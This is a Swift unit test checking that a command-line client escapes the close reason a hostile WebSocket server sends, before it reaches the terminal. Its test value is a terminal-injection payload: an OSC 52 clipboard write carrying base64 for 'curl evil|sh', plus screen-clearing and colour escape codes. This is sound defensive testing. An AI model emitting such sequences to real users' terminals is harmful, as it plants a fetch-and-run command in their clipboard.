import Foundation
import XCTest

/// What a hostile server or relay says to a client reaches the user's terminal escaped: a close
/// reason carrying OSC 52 (the clipboard), a title or a cursor move is shown, never obeyed.
extension LiveSessionTests {
  /// Tests/Hostile/closing_server.py: a WebSocket peer on loopback that closes every connection
  /// at once with `code` and `reason` (Python escapes: `\x1b`); the process and its port.
  func startClosingServer(code: Int, reason: String) throws -> (Process, Int) {
    let script = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
      .deletingLastPathComponent().appendingPathComponent("Hostile/closing_server.py")
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
    process.arguments = ["python3", script.path, String(code), reason]
    let output = Pipe()
    process.standardOutput = output
    try process.run()
    var line: [UInt8] = []
    while let byte = try output.fileHandleForReading.read(upToCount: 1)?.first, byte != 0x0A {
      line.append(byte)
    }
    let port = try XCTUnwrap(Int(String(decoding: line, as: UTF8.self)), "the hostile server did not start")
    return (process, port)
  }

  func testACloseReasonFromAHostileServerOrRelayIsEscapedBeforeItReachesTheTerminal() throws {
    let forged = #"\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\u009b31mtoken revoked"#
    let (server, port) = try startClosingServer(code: 4003, reason: forged)
    defer { server.terminate() }
    var env = environment
    env["REEL_TOKEN"] = "reel_" + String(repeating: "a", count: 43)
    env["REEL_RELAY_SECRET"] = nil
    for arguments in [["ls", "ws://127.0.0.1:\(port)"], ["tail", "ws://127.0.0.1:\(port)/x"]] {
      let run = try ReelCLI.run(arguments, environment: env)
      XCTAssertNotEqual(run.status, 0, "\(arguments): \(run.stderr)")
      XCTAssertTrue(
        run.stderr.contains(#"\x1B]52;c;Y3VybCBldmlsfHNo\x07\x1B[2J\u{9B}31mtoken revoked"#), run.stderr)
      let controls = run.stderr.unicodeScalars.filter {
        $0.value < 0x20 && $0 != "\n" || (0x7F...0x9F).contains($0.value)
      }
      XCTAssertTrue(
        controls.isEmpty, "\(arguments): raw controls reached the terminal: \(run.stderr.debugDescription)")
      XCTAssertEqual(run.stderr.split(separator: "\n").count, 1, run.stderr)
    }
  }
}
